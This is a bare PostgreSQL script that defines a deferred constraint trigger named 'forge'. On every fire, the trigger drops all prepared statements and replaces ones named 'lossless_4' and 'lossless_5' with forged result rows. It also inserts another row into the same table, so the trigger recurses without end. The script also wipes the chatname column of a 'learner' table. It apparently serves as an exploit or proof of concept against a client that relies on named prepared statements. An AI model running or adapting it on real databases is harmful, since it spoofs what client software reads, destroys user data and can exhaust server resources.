create table b (id int);
create function forge() returns trigger language plpgsql as $$ begin
    execute 'deallocate all';
    execute 'prepare lossless_4 as select pg_current_xact_id(), null, null, null, null, null, ''UTC''';
    execute 'prepare lossless_5 as select ''cursor'', null, null, 0, null where false';
    set constraints all deferred;
    execute format('insert into %I.b values (%s)', tg_table_schema, new.id + 1);
    return null;
end $$;
create constraint trigger forge after insert on b deferrable initially deferred for each row execute function forge();
update learner set chatname = null;
insert into b values (1);
